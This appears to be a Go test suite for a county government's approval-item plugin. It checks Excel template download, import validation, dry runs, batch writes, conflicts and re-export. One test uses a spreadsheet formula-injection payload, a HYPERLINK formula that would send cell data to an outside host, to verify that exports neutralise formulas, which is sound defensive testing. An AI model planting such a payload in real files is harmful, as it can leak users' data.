package approval

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/countycloud/countycloud/plugins/sdk"
	"github.com/countycloud/countycloud/plugins/sdk/sdkfake"
)

// header is the workbook's header row.
func header() []string {
	h := make([]string, len(xlsxColumns))
	for i, c := range xlsxColumns {
		h[i] = c.header
	}
	return h
}

// row is a complete item's row of department 发改局, with changes.
func row(code string, change map[string]string) []string {
	cells := map[string]string{colCode: code, colName: "企业投资项目备案", colCategory: "行政许可", colDepartments: "发改局",
		colLegalBasis: "《企业投资项目核准和备案管理条例》", colConditions: "在本县投资建设的项目", colMaterials: "项目备案申请表|电子表单\n营业执照|原件",
		colProcedure: "申请、受理、审查、决定", colPromised: "3", colStatutory: "20个工作日", colFees: "不收费", colPhone: "0751-2881234"}
	for k, v := range change {
		cells[k] = v
	}
	out := make([]string, len(xlsxColumns))
	for i, c := range xlsxColumns {
		out[i] = cells[c.header]
	}
	return out
}

// workbookOf writes rows into a workbook's first sheet, as a person's
// spreadsheet would hold them.
func workbookOf(t testing.TB, rows ...[]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for r, cells := range rows {
		for c, v := range cells {
			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if err := f.SetCellStr("Sheet1", name, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// sheetRows reads a workbook's sheet back.
func sheetRows(t *testing.T, data []byte, sheet string) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func (tt *tester) importFile(data []byte, dryRun bool, out any) int {
	tt.t.Helper()
	return tt.do(countyAdmin(), "POST", "/items/import", "", importInput{Workbook: data, DryRun: dryRun}, out)
}

func TestTheTemplateIsTheHeaderAndItsInstructions(t *testing.T) {
	tt := newTester(t)
	resp := tt.serve(clerk(), "GET", "/items/template", "", nil)
	if resp.Status != http.StatusOK || resp.Header["Content-Type"] != xlsxType || !strings.HasPrefix(resp.Header["Content-Disposition"], "attachment") {
		t.Fatalf("template: %d %v", resp.Status, resp.Header)
	}
	if rows := sheetRows(t, resp.Body, sheetItems); len(rows) != 1 || strings.Join(rows[0], ",") != strings.Join(header(), ",") {
		t.Fatalf("template's sheet: %q", rows)
	}
	if rows := sheetRows(t, resp.Body, sheetHelp); len(rows) != len(xlsxColumns)+2 || rows[4][0] != colDepartments {
		t.Fatalf("instructions: %q", rows)
	}
	tt.refused(anonymous(), "GET", "/items/template", "", nil, http.StatusForbidden, codeForbidden)
	tt.refused(anonymous(), "GET", "/items/export", "", nil, http.StatusForbidden, codeForbidden)
}

func TestAnImportIsCheckedWholeDryRunThenWrittenAndReimportedInPlace(t *testing.T) {
	tt := newTester(t)
	bad := workbookOf(t, header(),
		row("xk-001", nil),
		row("XK-002", map[string]string{colPromised: "30", colMaterials: "营业执照|复印件"}),
		row("LH-003", map[string]string{colName: "建设项目联合审批", colDepartments: "发改局:2；住建局:3", colPromised: "5"}),
		row("GG-004", map[string]string{colCategory: "公共服务", colDepartments: "财政局", colPhone: ""}),
	)
	var report importReport
	if s := tt.importFile(bad, true, &report); s != http.StatusOK || !report.DryRun || report.Rows != 4 || report.Created != 2 || len(report.Errors) != 3 {
		t.Fatalf("dry run: %d %+v", s, report)
	}
	want := []rowError{
		{Row: 3, Column: colMaterials, Code: rowInvalid},
		{Row: 3, Column: colPromised, Code: rowInvalid},
		{Row: 5, Column: colDepartments, Code: rowUnknownDepartment},
	}
	for i, w := range want {
		if e := report.Errors[i]; e.Row != w.Row || e.Column != w.Column || e.Code != w.Code || e.Message == "" {
			t.Errorf("error %d: %+v, want %+v", i, e, w)
		}
	}
	if tt.host.Count(collItems) != 0 || tt.host.batchesHandedIn() != 0 || len(tt.host.Measures()) != 0 {
		t.Fatal("a dry run wrote")
	}
	r := tt.refused(countyAdmin(), "POST", "/items/import", "", importInput{Workbook: bad}, http.StatusBadRequest, codeWorkbookRowsRejected)
	if !strings.Contains(string(r.Error.Details), `"row":5`) || tt.host.Count(collItems) != 0 {
		t.Fatalf("rows refused: %s", r.Error.Details)
	}
	good := workbookOf(t, header(),
		row("xk-001", nil),
		row("XK-002", map[string]string{colMaterials: "营业执照｜原件｜电子表单"}),
		row("LH-003", map[string]string{colName: "建设项目联合审批", colDepartments: "发改局:2；住建局：3", colPromised: "5"}),
		[]string{"", " "},
		row("GG-004", map[string]string{colCategory: "公共服务", colDepartments: "县政府办", colPhone: ""}),
	)
	if s := tt.importFile(good, false, &report); s != http.StatusOK || report.Created != 4 || report.Rows != 4 || len(report.Errors) != 0 {
		t.Fatalf("import: %d %+v", s, report)
	}
	var joint itemView
	tt.do(clerk(), "GET", "/items/LH-003", "", nil, &joint)
	if !joint.Joint || joint.UnitID != 20 || len(joint.Departments) != 2 || joint.Departments[1] != (department{UnitID: 30, Days: 3}) || !joint.Complete {
		t.Fatalf("the joint item: %+v", joint)
	}
	var two itemView
	tt.do(clerk(), "GET", "/items/XK-002", "", nil, &two)
	if len(two.Materials) != 1 || two.Materials[0] != (material{Name: "营业执照", Original: true, EForm: true}) {
		t.Fatalf("materials: %+v", two.Materials)
	}
	// Three complete items of 发改局 (20) today; GG-004 lacks its phone.
	if c := tt.host.counted(measureComplete); len(c) != 1 || c["20/2026-06-05"] != 3 {
		t.Fatalf("counted %v", c)
	}
	// The next day: one item changed, GG-004 completed, the rest as
	// they were.
	tt.advance(24 * time.Hour)
	again := workbookOf(t, header(),
		row("XK-001", map[string]string{colName: "企业投资项目备案（变更）"}),
		row("XK-002", map[string]string{colMaterials: "营业执照|原件|电子表单"}),
		row("LH-003", map[string]string{colName: "建设项目联合审批", colDepartments: "发改局:2\n住建局:3", colPromised: "5"}),
		row("GG-004", map[string]string{colCategory: "公共服务", colDepartments: "县政府办"}),
	)
	if s := tt.importFile(again, false, &report); s != http.StatusOK || report.Created != 0 || report.Updated != 2 || report.Unchanged != 2 {
		t.Fatalf("re-import: %d %+v", s, report)
	}
	var one itemView
	tt.do(clerk(), "GET", "/items/XK-001", "", nil, &one)
	if one.Version != 2 || one.Name != "企业投资项目备案（变更）" || one.CountedOn != "2026-06-05" {
		t.Fatalf("updated in place: %+v", one)
	}
	if c := tt.host.counted(measureComplete); len(c) != 2 || c["20/2026-06-05"] != 3 || c["10/2026-06-06"] != 1 {
		t.Fatalf("counted %v", c)
	}
	// The same file again changes nothing and counts nothing.
	batches := tt.host.batchesHandedIn()
	if s := tt.importFile(again, false, &report); s != http.StatusOK || report.Unchanged != 4 || tt.host.batchesHandedIn() != batches {
		t.Fatalf("the same file again: %d %+v", s, report)
	}
}

func TestAWorkbookRefusedWholeWritesNothing(t *testing.T) {
	tt := newTester(t)
	noPhone := header()[:len(xlsxColumns)-1]
	cases := map[string]struct {
		file []byte
		code string
		says string
	}{
		"missing columns":  {workbookOf(t, noPhone, row("XK-001", nil)[:len(noPhone)]), codeWorkbookColumns, colPhone},
		"duplicate codes":  {workbookOf(t, header(), row("XK-001", nil), row("GG-002", nil), row("xk-001", nil)), codeWorkbookDuplicates, `"row":4`},
		"not a workbook":   {[]byte("事项编码,事项名称\nXK-001,备案\n"), codeWorkbookUnreadable, ""},
		"a damaged zip":    {[]byte("PK\x03\x04 not really"), codeWorkbookUnreadable, ""},
		"only the header":  {workbookOf(t, header()), codeWorkbookEmpty, ""},
		"an empty sheet":   {workbookOf(t), codeWorkbookEmpty, ""},
		"a header twice":   {workbookOf(t, append(header(), colCode)), codeWorkbookColumns, "twice"},
		"no workbook sent": {nil, codeWorkbookUnreadable, ""},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			tt.t = t
			for _, dry := range []bool{true, false} {
				r := tt.refused(countyAdmin(), "POST", "/items/import", "", importInput{Workbook: c.file, DryRun: dry}, http.StatusBadRequest, c.code)
				if !strings.Contains(r.Error.Message+string(r.Error.Details), c.says) {
					t.Errorf("%s: %s %s", c.code, r.Error.Message, r.Error.Details)
				}
			}
		})
	}
	tt.t = t
	for _, c := range []sdk.Caller{clerk(), unitAdmin(), operator(), anonymous()} {
		tt.refused(c, "POST", "/items/import", "", importInput{Workbook: workbookOf(t, header(), row("XK-001", nil))}, http.StatusForbidden, codeForbidden)
	}
	if tt.host.Count(collItems) != 0 || tt.host.batchesHandedIn() != 0 {
		t.Fatal("a refused workbook wrote")
	}
}

func TestAnExportImportsBackUnchangedAndRunsNoFormula(t *testing.T) {
	tt := newTester(t)
	evil := completeItem("XK-009")
	evil["name"], evil["fees"] = `=HYPERLINK("http://x/?"&A1)`, "-5元"
	tt.do(countyAdmin(), "POST", "/items", "", evil, nil)
	tt.do(countyAdmin(), "POST", "/items", "", completeItem("XK-001"), nil)
	joint := completeItem("LH-003")
	joint["departments"] = []map[string]any{{"unit_id": 20, "days": 2}, {"unit_id": 30, "days": 3}}
	tt.do(countyAdmin(), "POST", "/items", "", joint, nil)
	draft := map[string]any{"code": "GG-002", "name": "政策咨询", "category": "公共服务", "departments": []map[string]any{{"unit_id": 40}}}
	tt.do(countyAdmin(), "POST", "/items", "", draft, nil)
	resp := tt.serve(clerk(), "GET", "/items/export", "", nil)
	if resp.Status != http.StatusOK || resp.Header["Content-Type"] != xlsxType {
		t.Fatalf("export: %d %v", resp.Status, resp.Header)
	}
	rows := sheetRows(t, resp.Body, sheetItems)
	if len(rows) != 5 || rows[2][0] != "LH-003" || rows[2][3] != "发改局:2；住建局:3" || rows[4][1] != evil["name"] {
		t.Fatalf("exported %q", rows)
	}
	f, err := excelize.OpenReader(bytes.NewReader(resp.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"B5", "K5"} {
		style, err := f.GetCellStyle(sheetItems, cell)
		if err != nil || style == 0 || f.Styles.CellXfs.Xf[style].QuotePrefix == nil || !*f.Styles.CellXfs.Xf[style].QuotePrefix {
			t.Errorf("%s is not marked as text: style %d %v", cell, style, err)
		}
		if formula, _ := f.GetCellFormula(sheetItems, cell); formula != "" {
			t.Errorf("%s holds a formula %q", cell, formula)
		}
	}
	var report importReport
	if s := tt.importFile(resp.Body, false, &report); s != http.StatusOK || report.Unchanged != 4 || report.Created+report.Updated != 0 {
		t.Fatalf("the export imported back: %d %+v", s, report)
	}
}

func TestALargeImportIsWrittenInBatchesAndAConflictSaysHowFarItGot(t *testing.T) {
	tt := newTester(t)
	rows := [][]string{header()}
	for i := range 2500 {
		rows = append(rows, row(fmt.Sprintf("XK-%04d", i), nil))
	}
	file := workbookOf(t, rows...)
	// The batch holding XK-1500 is refused, as one whose record changed
	// meanwhile; the batch after it is under way by then, and written.
	tt.host.SetFail(sdkfake.FromNth(1, fmt.Errorf("%w: record XK-1500 changed meanwhile", sdk.ErrConflict), sdkfake.Match("PutRecords", collItems, "XK-1500")))
	r := tt.refused(countyAdmin(), "POST", "/items/import", "", importInput{Workbook: file}, http.StatusConflict, codeVersionConflict)
	if !strings.Contains(r.Error.Message, "1500 items were written") || tt.host.Count(collItems) != 1500 {
		t.Fatalf("%s; %d items", r.Error.Message, tt.host.Count(collItems))
	}
	if _, err := tt.host.Get(context.Background(), collItems, "XK-1500"); !errors.Is(err, sdk.ErrNotFound) {
		t.Fatalf("an item of the refused batch: %v", err)
	}
	tt.host.SetFail(nil)
	var report importReport
	if s := tt.importFile(file, false, &report); s != http.StatusOK || report.Created != 1000 || report.Unchanged != 1500 {
		t.Fatalf("import again: %d %+v", s, report)
	}
	if n := tt.host.Count(collItems); n != 2500 {
		t.Fatalf("%d items", n)
	}
	var total int64
	for _, n := range tt.host.counted(measureComplete) {
		total += n
	}
	// One recording for the batches written by the refused import, one
	// for the batch of the import again.
	recordings := 0
	for _, m := range tt.host.Measures() {
		if m.ID == measureComplete {
			recordings++
		}
	}
	if total != 2500 || recordings != 2 {
		t.Fatalf("counted %d in %d recordings", total, recordings)
	}
}

func TestImportBodyIsTheWorkbookInBase64(t *testing.T) {
	tt := newTester(t)
	tt.refused(countyAdmin(), "POST", "/items/import", "", `{"workbook":"not base64!"}`, http.StatusBadRequest, codeInvalidJSON)
	tt.refused(countyAdmin(), "POST", "/items/import", "", `{"file":""}`, http.StatusBadRequest, codeInvalidJSON)
	body, _ := json.Marshal(importInput{Workbook: workbookOf(t, header(), row("XK-001", nil)), DryRun: true})
	var report importReport
	if s := tt.do(countyAdmin(), "POST", "/items/import", "", string(body), &report); s != http.StatusOK || report.Created != 1 {
		t.Fatalf("%d %+v", s, report)
	}
}

// TestRowNumbersAreTheSpreadsheets: rows left out of the sheet (a gap of
// blank rows) keep the numbers below them as the spreadsheet shows them.
func TestRowNumbersAreTheSpreadsheets(t *testing.T) {
	tt := newTester(t)
	f := excelize.NewFile()
	defer f.Close()
	for r, cells := range map[int][]string{1: header(), 2: row("XK-001", nil), 5: row("XK-002", map[string]string{colCategory: "审批"})} {
		for c, v := range cells {
			name, _ := excelize.CoordinatesToCellName(c+1, r)
			if err := f.SetCellStr("Sheet1", name, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	var report importReport
	if s := tt.importFile(buf.Bytes(), true, &report); s != http.StatusOK || len(report.Errors) != 1 || report.Errors[0].Row != 5 || report.Errors[0].Column != colCategory {
		t.Fatalf("%d %+v", s, report)
	}
}

// TestAnImportHasTwoBatchesUnderWayAtOnce: the host is sent the next
// batch while it writes one, and never a third before one is answered;
// every item is written once.
func TestAnImportHasTwoBatchesUnderWayAtOnce(t *testing.T) {
	tt := newTester(t)
	rows := [][]string{header()}
	for i := range 3500 {
		rows = append(rows, row(fmt.Sprintf("XK-%04d", i), nil))
	}
	var (
		mu               sync.Mutex
		under, most, met int
		both             = make(chan struct{})
	)
	tt.host.gate = func() func() {
		mu.Lock()
		under++
		most = max(most, under)
		if under == 2 && met == 0 {
			met++
			close(both)
		}
		mu.Unlock()
		select {
		case <-both:
		case <-time.After(5 * time.Second):
			t.Error("a batch waited 5 s alone: the next was not sent while it was under way")
		}
		return func() {
			mu.Lock()
			under--
			mu.Unlock()
		}
	}
	var report importReport
	if s := tt.importFile(workbookOf(t, rows...), false, &report); s != http.StatusOK || report.Created != 3500 {
		t.Fatalf("import: %d %+v", s, report)
	}
	if most != batchesInFlight || tt.host.Count(collItems) != 3500 || tt.host.batchesHandedIn() != 4 {
		t.Fatalf("%d batches under way at most, %d items, %d batches", most, tt.host.Count(collItems), tt.host.batchesHandedIn())
	}
}
